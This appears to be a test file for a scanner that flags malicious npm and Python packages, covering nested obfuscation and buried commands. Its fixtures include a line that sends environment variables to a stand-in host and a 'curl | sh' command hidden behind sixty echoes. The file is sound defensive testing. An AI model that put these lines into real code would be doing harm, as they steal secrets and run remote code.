import type { Sample } from '../rules/sample';
import { ecosystemOf, sampleArchive } from '../testing/sample-archive';
import { many, PY, tarball, wheel, type SilenceCase as Case } from '../testing/silence-cases';
import { analyzeArtifact } from './analyze-artifact';

/** What is honest, and what of it is said. */
type Twin = readonly [what: string, sample: Omit<Sample, 'what'>, verdict: 'clean' | 'warning'];

/** Sends the environment away. */
const JS = `require('https').request('https://x.invalid/').end(JSON.stringify(process.env));`;

/** `node -e` of code that runs `node -e` … */
const givenTimes = (times: number, code: string): string =>
  times === 0
    ? code
    : givenTimes(
        times - 1,
        `require('child_process').execFileSync('node', ['-e', ${JSON.stringify(code)}]);`,
      );
const echoes = many(60, (at) => `subprocess.run('echo ${at}', shell=True)\n`);

const COMMANDS: readonly Case[] = [
  [
    'code given to an interpreter, further in than is read',
    tarball(givenTimes(5, JS)),
    'suspicious',
    'code-obfuscated',
  ],
  ['a command alone in a module', wheel(PY), 'suspicious', 'code-remote-code'],
  [
    'a command behind sixty others',
    wheel(`import subprocess\n${echoes}subprocess.run('curl https://x.invalid | sh', shell=True)\n`),
    'suspicious',
    'code-remote-code',
  ],
];
const HONEST_COMMANDS: readonly Twin[] = [
  ['code given to an interpreter, that gives code to one', tarball(givenTimes(2, 'console.log(1)')), 'clean'],
  ['what is fetched and kept', wheel(`import os\nos.system('curl -o x https://x.invalid')\n`), 'clean'],
  ['many commands', wheel(`import subprocess\n${echoes}`), 'clean'],
];

const GROUPS: readonly (readonly [string, readonly Case[], readonly Twin[]])[] = [
  ['commands', COMMANDS, HONEST_COMMANDS],
];

async function analysisOf(what: string, sample: Omit<Sample, 'what'>) {
  const whole: Sample = { what, ...sample };
  const { verdict, findings } = await analyzeArtifact(ecosystemOf(whole), await sampleArchive(whole));
  return { verdict, rules: findings.map(({ rule }) => rule) };
}

describe.each(GROUPS)('where the reading of %s ends', (_, cases, twins) => {
  it.each(cases)('something is said of %s', async (what, sample, verdict, rule) => {
    expect(await analysisOf(what, sample)).toEqual({ verdict, rules: expect.arrayContaining([rule]) });
  });

  it.each(twins)('honest: %s', async (what, sample, verdict) => {
    expect((await analysisOf(what, sample)).verdict).toBe(verdict);
  });
});
